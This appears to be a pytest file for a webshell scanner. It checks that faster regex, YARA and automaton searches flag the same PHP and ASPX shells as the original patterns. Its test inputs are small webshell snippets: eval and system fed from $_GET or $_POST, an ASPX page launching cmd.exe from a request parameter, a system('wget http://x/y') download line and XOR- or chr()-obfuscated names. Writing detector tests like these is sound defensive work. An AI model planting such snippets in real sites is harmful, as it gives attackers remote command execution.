"""Patterns rewritten to start with a literal (tried only where it stands, not at every position of the text) find
exactly what the patterns they replace find, and the shells they serve are still flagged.

The snippets are written for these tests; nothing is executed.
"""

import base64
import binascii
import random
import re

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import (
    analyse,
    decode,
    other,
    php,
    phpactions,
    yarascan,
)

FILLER = "".join("function helper_%d($a, $b) {\n    /* add */\n    return $a + $b * %d;\n}\n\n" % (i, i) for i in range(120))
# The characters the parenthesised-literal pattern looks at: brackets, quotes, blanks (also Unicode ones), names.
PIECES = ["(", ")", "'", " ", "\t", "\n", "a", "$", "]", "_", "\\", "=", ".", "\xa0", "\x85", "\xb2", "\xe9", "x(",
          "('", "( '"]


def test_unwrapping_literals_from_their_bracket_equals_the_pattern_tried_everywhere():
    rnd = random.Random(14)
    for _ in range(20000):
        text = "".join(rnd.choice(PIECES) for _ in range(rnd.randint(0, 30)))
        assert decode._unwrap_literals(text) == decode._PAREN_LIT.sub(r"\1", text), text
    assert decode._unwrap_literals("$f = ('sys') . ( 'tem'); x('a'); ('(') ('b')") == "$f ='sys' .'tem'; x('a');'(' ('b')"


def test_a_name_spelled_in_bracketed_pieces_is_still_joined_and_flagged():
    shell = b"<?php\n$f = ('sys') . ( 'tem');\n$f($_GET['c']);\n"
    assert "'system'" in decode.normalise(shell.decode())
    assert analyse.analyse("x.php", shell, php.THRESHOLD, [])["kind"] == "webshell"


def test_a_comment_before_the_bracket_still_sends_a_large_file_to_decoding(monkeypatch):
    before = re.compile(r"\b(?:eval|assert)\s*/\*[^*]{0,200}\*/\s*\(")
    for text in ("eval/*x*/(1)", "xeval/*x*/(1)", "assert /* a */ (", "_assert/**/(", "\xe9eval/**/(", "1eval/**/(",
                 "$eval/**/(", "eval/* * */(", "eval(/**/"):
        assert analyse._call_after_comment(text) == bool(before.search(text)), text
    decoded = []
    real = decode.decoded_layers
    monkeypatch.setattr(decode, "decoded_layers", lambda text: decoded.append(text) or real(text))
    source = "<?php\n" + FILLER + "$k = 'x';\neval/* hidden */($k);\n"
    assert len(source) > analyse.DEEP_SIZE
    analyse.analyse("lib/helpers.php", source.encode(), php.THRESHOLD, [])
    assert decoded and decoded[0] == source


def test_request_input_extracted_into_variables_is_still_found():
    shell = "<?php\n" + FILLER + "parse_str($_SERVER['QUERY_STRING']);\n$f($c);\n"
    found = php.score_php([shell]).found
    assert "input_extracted" in found and "extracted_input_to_sink" in found
    assert "input_extracted" not in php.score_php(["<?php\nmyparse_str($_GET);\nmy_extract($_POST);\n"]).found


def test_obfuscated_names_are_counted_in_ascii_and_in_other_text():
    ascii_names = "<?php $OOO0O0O = 1; $O0O0OO0 = 2; $OO00O0O = 3; $O000O0O = 4; $OO0O0OO = 5;"
    assert text_signal(ascii_names) == 5
    high_names = "<?php " + " ".join("$%s\xe9\xe8 = %d;" % (chr(97 + i), i) for i in range(5))
    assert text_signal(high_names) == 5


def text_signal(text):
    return dict(php._obfuscation(text)).get("obfuscated_identifiers", 0)


ASP_PIECES = ['"', '""', "+", "&", " ", "\t", "a", "\n", "eval", ":", "=", ",", "[", "]", "}", "\xa0", "process",
              ".start(", "startinfo", "new process()", "new  process ( )", "assembly.load(", "eval(request",
              "jscript.net", "codedomprovider", "system.reflection.assembly", "currentdomain.load(",
              "request.inputstream", "request.binaryread", "createdecryptor", "transformfinalblock", "x" * 1500]


def test_asp_signals_searched_by_branch_or_from_their_literal_start_where_their_patterns_do():
    rnd = random.Random(14)
    for _ in range(20000):
        text = "".join(rnd.choice(ASP_PIECES) for _ in range(rnd.randint(0, 20)))
        assert other._drop_empty_after(text) == other._EMPTY_JOIN_AFTER.sub("", text), text
        for name, faster in other._FASTER.items():
            expected = re.search(other.SIGNALS[name][1], text)
            found = faster.search(text)
            assert (found and found.start()) == (expected and expected.start()), (name, text)


def test_asp_shells_are_still_flagged_through_the_faster_searches():
    process = (b'<%@ Page Language="C#" %>\n<% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + '
               b'Request["c"]); System.Diagnostics.Process.Start(p); %>\n')
    verdict = analyse.analyse("x.aspx", process, php.THRESHOLD, [])
    assert verdict["kind"] == "webshell" and "aspx_process_start" in verdict["signals"]
    reference = b'<%@ Page Language="Jscript" %>\n<% var f = [eval][0]; f(Request.Item["c"], "unsafe"); %>\n'
    assert "eval_reference" in analyse.analyse("x.aspx", reference, php.THRESHOLD, [])["signals"]
    # An empty literal joined after a value goes; a doubled quote inside a VBScript string stays.
    assert other.normalise('s = "a" & p & ""\n<a href=""" & url & """>') == 's = "a" & p \n<a href=""" & url & """>'


def test_asp_signal_gates_looked_up_among_the_names_find_each_literal_the_text_holds():
    # A large page (names looked up in php.words_of) whose only gate literals sit inside longer names and strings.
    page = ("<%@ Page Language=\"C#\" %>\n" + "<p>row</p>\n" * 600
            + "<% var info = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\n")
    assert len(page) > php.WORDS_FROM
    verdict = analyse.analyse("x.aspx", page.encode(), php.THRESHOLD, [])
    assert verdict["kind"] == "webshell" and {"aspx_process_start", "cmd_interpreter"} <= set(verdict["signals"])
    low = other.normalise(page.lower())
    words = php.words_of(low)
    literals = {n for needs in other.NEEDS.values() for n in needs}
    assert {s[0] for s in other._NEEDS_SPELLED if php.occurs(s, low, words)} == {n for n in literals if n in low}


def test_literals_combined_with_a_caret_are_found_from_the_caret_where_the_pattern_finds_them():
    before = re.compile(r"['\"]\s*\^\s*['\"]")
    rnd = random.Random(21)
    pieces = ["'", '"', "^", " ", "\t", "\n", "\xa0", "\x85", "a", "/", "[", "$x"]
    for _ in range(20000):
        text = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 16)))
        assert decode.caret_between_quotes(text) == bool(before.search(text)), repr(text)
    assert decode.caret_between_quotes("$k = 'ab' ^ \"\\x01\\x02\";")
    assert not decode.caret_between_quotes("preg_match('/^[a-z]+$/', $s);")


def test_long_lines_are_split_into_built_names_and_indirect_calls_as_the_joined_pattern_finds_them():
    before = re.compile(r"['\"]\s*\.\s*['\"$]|\$\w+\s*\(")
    rnd = random.Random(22)
    pieces = ["'", '"', ".", "$", "$f", "(", " ", "\xa0", "a", "_", "\xe9"]
    for _ in range(20000):
        line = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 14)))
        assert bool(analyse._INDIRECT.search(line) or analyse._BUILT.search(line)) == bool(before.search(line)), line


def test_a_run_of_a_thousand_base64_characters_is_found_as_the_pattern_finds_it():
    before = re.compile(r"[A-Za-z0-9+/]{1000}")
    rnd = random.Random(23)
    alphabet = "ABCxyz019+/"
    breaks = ["=", "\n", " ", "-", "\xe9", "\u0100", "\xa0"]
    for _ in range(400):
        text = "".join(rnd.choice(alphabet) * rnd.randint(1, 300) if rnd.random() < 0.9 else rnd.choice(breaks)
                       for _ in range(rnd.randint(1, 30)))
        found = ("long_encoded_literal", 2) in php._obfuscation(text)
        longest = max(len(line) for line in text.split("\n"))
        assert found == (longest >= 1000 and bool(before.search(text))), text[:80]
    assert ("long_encoded_literal", 2) in php._obfuscation("$p = '%s';" % ("QUJD" * 250))
    assert ("long_encoded_literal", 2) not in php._obfuscation("$p = '%s';" % ("QUJ=" * 400))
    assert ("long_encoded_literal", 2) in php._obfuscation("$p = '%s';" % ("A+/9" * 250))
    assert ("long_encoded_literal", 2) not in php._obfuscation("$p = '%s';" % ("A+/9" * 250)[1:])


def test_escaped_includes_are_found_from_each_name_where_the_alternation_finds_them():
    before = re.compile(r"(?:include|require)(?:_once)?\s*\(?\s*@?\s*\"(?:[^\"\n\\]{0,40}"
                        r"\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){3}")
    rnd = random.Random(24)
    pieces = ["include", "require", "_once", "(", " ", "@", '"', "\\x41", "\\101", "\\", "a", "\n", "\\x4"]
    for _ in range(20000):
        low = "\\" + "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 12)))
        match = before.search(low)
        assert phpactions._escaped_include(low, "\ninclude\nrequire\n") == (match.start() if match else -1), low


def test_a_program_literal_is_looked_for_only_in_a_text_holding_how_one_starts():
    program = base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 16).decode()
    for text in ("<?php $p = '%s';" % program, "<?php $p = \"%s\";" % binascii.hexlify(b"\x7fELF\x02\x01" + bytes(4096)).decode().upper()):
        low = text.lower()
        assert php._program_start_in(text, low, php.words_of(low)) and php._embeds_native_program(text)
    plain = "<?php $tv = 'TVx%s';" % ("A" * 5000)
    low = plain.lower()
    assert not php._program_start_in(plain, low, php.words_of(low)) and not php._embeds_native_program(plain)


def test_the_signals_tried_on_a_text_are_those_with_a_head_it_holds_in_their_scoring_order():
    heads = sorted({head for entry in php._COMPILED for head in entry[3]} | set(php._STEMS))
    rnd = random.Random(25)
    for _ in range(3000):
        present = set(rnd.sample(heads, rnd.randint(0, 12)))
        assert php._signals_to_try(present) == [entry for entry in php._COMPILED if not present.isdisjoint(entry[3])]
    assert php._signals_to_try(php.heads_in("<?php eval($_post['x']);")) != []


# Heads, pieces of heads, quotes and base64-like runs: a text of these holds some heads, parts of others, and long
# names that are not identifiers (a blob whose names are as long as the text itself).
HEAD_PIECES = ("eval", "ev", "al", "system", "syst", "'system'", '"exec"', "shell_", "exec", "$_get", "$_", "@", "(",
               "'", '"', " ", "\n", "array_", "map", "gz", "inflate", "base64_decode", "cmd.exe", "_", "$", "^",
               "aGVsbG8gd29ybGQ", "zZXZhbA", "+", "/", "\xe9", "\xff", "new", "md5", "${", ")")


def _look_ups_only(monkeypatch):
    monkeypatch.setattr(php, "AUTOMATON_FROM", 1 << 40)


def test_heads_and_literals_found_by_the_automaton_are_what_the_look_ups_find(monkeypatch):
    assert yarascan.literal_finder(("eval",)) is not None  # yara-python is in requirements.txt
    every_head = set(php._AUTOMATON_HEADS) | set(php._SHORT_HEADS)
    spellings = [php.spelled(literal) for literal in list(php._SPELLED) + ["$_", "@", "${"]]  # and short ones
    rnd = random.Random(22)
    for _ in range(1500):
        low = "".join(rnd.choice(HEAD_PIECES) for _ in range(rnd.randint(150, 400)))
        assert (php._present_in(low) is not None) == (len(low) >= php.AUTOMATON_FROM)  # a short text: looked up
        words = php.words_of(low)
        by_automaton = (php.heads_in(low), [php.occurs(s, low, words) for s in spellings])
        _look_ups_only(monkeypatch)
        words = php.words_of(low)
        assert isinstance(words, str)  # the names themselves, or the short text
        by_look_ups = (php.heads_in(low), [php.occurs(s, low, words) for s in spellings])
        monkeypatch.undo()
        assert by_automaton == by_look_ups, low
        assert by_automaton[0] == {head for head in every_head if head in low}
        assert by_automaton[1] == [s[0] in low for s in spellings]


def test_the_literals_found_beside_the_bundled_rules_are_what_the_automaton_finds_in_the_lowered_text():
    literals = php.automaton_literals()
    merged, _problem = yarascan.load(None, generic=True, literals=literals)
    finder = php._load_automaton()[0]
    rnd = random.Random(26)
    pieces = [p.upper() for p in HEAD_PIECES if p.upper().isascii()] + list(HEAD_PIECES) + ["EvAl", "\xc9", "\xe9"]
    # Chinese terms of the spam vocabulary in the bytes of each encoding, as written and in latin-1's other case (GBK
    # writes 0xCA where the lowered text holds 0xEA; Big5's second bytes may be ASCII letters).
    for term in ("彩票", "百家樂", "投注", "娛樂城"):
        for encoding in ("utf-8", "gbk", "big5"):
            raw = term.encode(encoding, "ignore").decode("latin-1")
            pieces += [raw, raw.lower()] + [raw.upper()] * all(len(c.upper()) == 1 and c.upper() <= "\xff" for c in raw)
    for _ in range(400):
        data = "".join(rnd.choice(pieces) for _ in range(rnd.randint(150, 400))).encode("latin-1")
        hits, present = yarascan.read(merged, data)
        assert present[1] == literals and not any(name.startswith("yara:literals") for name, _w, _at in hits)
        assert present[0] == finder(data.decode("latin-1").lower().encode("latin-1")), data
    # A file of 64-256 KiB is read with the known-shell rules and the literals; a larger one by the automaton alone.
    for size, read_with_rules in ((yarascan.GENERIC_MAX_SIZE + 1, True), (yarascan.LITERALS_MAX_SIZE + 1, False)):
        data = ("".join(rnd.choice(pieces) for _ in range(400)) * (size // 1000 + 1))[:size].encode("latin-1")
        _hits, present = yarascan.read(merged, data)
        assert (present is not None) == read_with_rules
        if read_with_rules:
            assert present[0] == finder(data.decode("latin-1").lower().encode("latin-1"))


def test_verdicts_with_the_literals_read_beside_the_rules_are_those_of_the_automatons_own_pass():
    separate = yarascan.load(None, generic=True)[0]
    merged = yarascan.load(None, generic=True, literals=php.automaton_literals())[0]
    rnd = random.Random(27)
    parts = ("system($_GET['c']);", "eval(base64_decode($x));", "echo 'uname -a';", " safe_mode ", " SLOT GACOR ",
             "<a href='http://x'>", "$f = 'sys' . 'tem';", "PassThru(", "disable_functions", "\n", "filler text ",
             "$_POST", "display:none", "getenv('HTTP_X')", "php_uname()", "posix_getpwuid(", "$OOO0O0 = 1;")
    for _ in range(60):
        body = ("<?php\n" + "".join(rnd.choice(parts) for _ in range(rnd.randint(10, 160)))).encode()
        assert analyse.analyse("t.php", body, 10, [], merged) == analyse.analyse("t.php", body, 10, [], separate)


def test_every_head_is_a_literal_the_automaton_looks_for():
    assert php._AUTOMATON_HEADS <= set(php._SPELLED)
    assert {"eval", "'system'", "base64_decode"} <= php._AUTOMATON_HEADS


def test_the_names_of_a_text_the_automaton_read_answer_as_the_names_themselves():
    names = sorted(php._load_automaton()[2])
    keys = names + ["tv", "zz", "$__", "eval(", "", "\n__", "\n"] + ["\n%s\n" % n for n in names[::7]] \
        + ["\n%s" % n for n in names[1::7]] + ["%s\n" % n for n in names[2::7]]
    rnd = random.Random(23)
    pieces = list(HEAD_PIECES) + names[::5] + [" ", "\n", "(", "$__", "wtmp", "xwtmp", "tv"]
    for _ in range(300):
        low = "".join(rnd.choice(pieces) for _ in range(rnd.randint(150, 400)))
        if len(low) < php.WORDS_FROM:
            continue
        answer = php.words_of(low)
        built = php._names_text(low)
        assert isinstance(answer, php._Names)
        assert [key in answer for key in keys] == [key in built for key in keys], low


def test_the_names_the_engine_looks_up_are_found_by_the_automaton_without_building_the_names(monkeypatch):
    asked = set()
    contains = php._Names.__contains__
    monkeypatch.setattr(php._Names, "__contains__", lambda self, key: asked.add(key) or contains(self, key))
    monkeypatch.setattr(php, "_names_text", lambda low: pytest.fail("the names were built"))
    shell = ("<?php\n" + FILLER + "ignore_user_abort(1); set_time_limit(0); $f = $_FILES['f']['tmp_name'];\n"
             "copy($f, $_POST['d']); include 'x.ico'; mail($_POST['to'], php_uname(), $_SERVER['HTTP_HOST']);\n"
             "unlink('/tmp/x.log'); system('wget http://x/y'); echo chr(65).chr(66);\n")
    analyse.analyse("x.php", shell.encode(), php.THRESHOLD, [])
    automaton_names = php._load_automaton()[2]
    assert len(asked) > 30
    assert {key.strip("\n") for key in asked} - automaton_names <= {"tv"}  # too short for the automaton


def test_literals_are_looked_up_one_by_one_where_the_automaton_did_not_read_the_text(monkeypatch):
    low = "<?php " + "x" * 600 + " @eval($_get['c']); system('id');"
    eval_spelling = php.spelled("eval(")
    expected = php.heads_in(low)
    assert {"eval", "system", "$_get", "@"} <= expected and php._present_in(low) is not None
    for automaton in ([None], [(lambda data: None, frozenset(php._SPELLED), frozenset())]):  # none; YARA gave up
        monkeypatch.setattr(php, "_AUTOMATON", automaton)
        monkeypatch.setattr(php, "_LAST_PRESENT", [(None, None)])
        assert php._present_in(low) is None
        assert php.heads_in(low) == expected and php.occurs(eval_spelling, low, php.words_of(low))
    monkeypatch.undo()
    wide = "\u0100" * 600 + "eval($_get)"  # not latin-1: YARA cannot read it, so looked up one by one
    assert php._present_in(wide) is None
    assert php.heads_in(wide) == {h for h in set(php._AUTOMATON_HEADS) | set(php._SHORT_HEADS) if h in wide}


def test_signal_patterns_are_compiled_at_their_first_use_or_all_by_prepare(monkeypatch):
    every = []  # fresh copies of every head's pattern, none compiled yet
    monkeypatch.setattr(php._HeadPattern, "every", every)

    def fresh(patterns):
        return [(head, bounded, php._HeadPattern(rx.head, rx.tail)) for head, bounded, rx in patterns]

    monkeypatch.setattr(php, "_COMPILED", [(n, w, fresh(p), h) for n, w, p, h in php._COMPILED])
    monkeypatch.setattr(php, "_TAINT_SINKS", [(n, w, fresh(p)) for n, w, p in php._TAINT_SINKS])
    text = "<?php eval($_POST['c']);"
    held = php.heads_in(text.lower())
    assert "input_to_code" in php.score_php([text]).found
    heads_of = {id(rx): head for _n, _w, patterns, _h in php._COMPILED for head, _b, rx in patterns}
    heads_of.update({id(rx): head for _n, _w, patterns in php._TAINT_SINKS for head, _b, rx in patterns})
    compiled = {heads_of[id(rx)] for rx in every if rx.rx is not None}
    assert "eval" in compiled and compiled <= held  # only the heads the text holds
    assert any(heads_of[id(rx)] == "system" and rx.rx is None for rx in every)
    php.prepare()
    assert all(rx.rx is not None for rx in every)


def test_the_one_pass_gate_of_the_bitwise_strings_answers_as_the_substring_searches_it_replaces():
    rnd = random.Random(24)
    pieces = ["'", "|", "&", "^", " ", "]", "}", ".", "$", "a", '"', "\n"]
    for _ in range(20000):
        text = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 12)))
        assert (php._QUOTE_OPERATOR.search(text) is not None) == any(s in text for s in ("'|", "'&", "'^", "' ^")), text


def test_a_copy_of_the_last_text_is_not_read_by_the_automaton_again(monkeypatch):
    finder, literals, names = php._load_automaton()
    read = []
    monkeypatch.setattr(php, "_AUTOMATON", [(lambda data: read.append(data) or finder(data), literals, names)])
    monkeypatch.setattr(php, "_LAST_PRESENT", [(None, None)])
    text = "<?php " + FILLER + " eval($_GET['c']);"
    low, copy = text.lower(), text.lower()
    assert low == copy and low is not copy
    assert php.heads_in(low) == php.heads_in(copy) and "eval" in php.heads_in(copy)
    assert len(read) == 1
    php.heads_in(low.replace("eval", "evil"))  # another text of the same length is read
    assert len(read) == 2


def test_a_head_pattern_matches_as_its_head_and_tail_compiled_together():
    """_HeadPattern looks the head up as a literal and matches the shared tail after it: the same matches, groups
    and order as re.finditer(escape(head) + tail), for every signal's own patterns and for tails that look behind,
    test a word boundary, repeat the head, match nothing or hold an alternative at the top."""
    rnd = random.Random(25)
    cases = [(p.head, p.tail) for _n, _w, patterns, _h in php._COMPILED for _head, _b, p in patterns]
    cases += [("eval", r"(?<=l)\s*\(\s*(\$\w+)"), ("syst", r"em\b"), ("aaaa", r"a?"), ("exec", ""),
              ("eval", r"\s*\(|x\(")]
    pieces = ["eval", "sys", "tem", "aa", "exec", "(", "$_get", "$x", " ", "'", "\n", "x(", "base64_decode", "@", "$"]
    texts = ["".join(rnd.choice(pieces) for _ in range(rnd.randrange(1, 40))) for _ in range(300)]
    texts += ["<?php @eval($_post['c']); system($_get['x']); $globals['a'](); ${'x'}; [$globals['f']]"]
    for head, tail in cases:
        pattern, whole = php._HeadPattern(head, tail), re.compile(re.escape(head) + tail)
        php._HeadPattern.every.remove(pattern)
        for text in texts:
            expected = [(m.start(), m.end(), m.group(), m.groups()) for m in whole.finditer(text)]
            found = [(m.start(), m.end(), m.group(), tuple(m.group(i) for i in range(1, whole.groups + 1)))
                     for m in pattern.finditer(text)]
            assert found == expected, (head, tail, text)


# The pattern chr() folding used before, tried at every position: the specification _chr_folded keeps.
CHR_FOLDED_BEFORE = re.compile(r"(?:\"\s*(?:[+&]\s*)?|[+&]\s*)?\bchrw?\s*\(\s*(\d{1,3}|&h[0-9a-f]{1,4}|&o?[0-7]{1,6})"
                               r"\s*\)(?:\s*[+&]\s*\"?|\s*\")?")
CHR_PIECES = ['"', " ", "  ", "&", "+", "chr(65)", "chrw(&h41)", "chr ( 66 )", "x", "\n", "\xa0", "chr(", ")",
              "chr(999)", "_", "a", '""', "chrw(&o101)", "\t"]


def test_chr_calls_folded_from_their_name_equal_the_pattern_tried_everywhere():
    rnd = random.Random(31)
    for _ in range(20000):
        text = "".join(rnd.choice(CHR_PIECES) for _ in range(rnd.randint(1, 14)))
        expected = CHR_FOLDED_BEFORE.sub(lambda m: other._chr_code(m.group(1)), text)
        assert other._chr_folded(text) == expected, repr(text)
    page = '<% x = "ws" & chr(99) & "ript.shell" : set o = createobject("w" + chrw(&h53) + "cript.shell") %>'
    assert 'set o = createobject("wscript.shell")' in other.normalise(page.lower())


def xor_pairs_read_one_by_one(text, operand, value_of):
    """The XOR folding as it was before its gate: every literal of the text read, in order (the specification)."""
    out, last, before = [], 0, None
    for token in decode._STRING_TOKEN.finditer(text):
        if before is not None and decode._XOR_GAP.fullmatch(text, before.end(), token.start()) \
                and operand.fullmatch(before.group()) and operand.fullmatch(token.group()):
            value = "".join(chr(ord(a) ^ ord(b)) for a, b in zip(value_of(before.group()), value_of(token.group())))
            out += (text[last:before.start()], "'%s'" % value.replace("\\", "").replace("'", ""))
            last, before = token.end(), None
            continue
        before = token
    return text if not out else "".join(out) + text[last:]


XOR_PIECES = ["'", '"', "^", " ", "\n", "'ab'", '"cd"', "\\", "x", "$", "'\\x41'", "\t^", "('", "'(:'", "'I['"]


def test_xor_folding_gated_on_a_caret_between_quotes_equals_reading_every_literal():
    rnd = random.Random(31)
    for _ in range(20000):
        text = "".join(rnd.choice(XOR_PIECES) for _ in range(rnd.randint(0, 12)))
        assert decode._xor_literals(text) == xor_pairs_read_one_by_one(
            text, decode._XOR_PLAIN_OPERAND, lambda token: token[1:-1]), repr(text)
        assert decode._xor_escaped_literals(text) == xor_pairs_read_one_by_one(
            text, decode._XOR_ESCAPED_OPERAND, decode._literal_value), repr(text)
    assert decode._xor_literals("$f = '(:' ^ 'I['; $g = preg_match('/^a/', $s);") == "$f = 'aa'; $g = preg_match('/^a/', $s);"
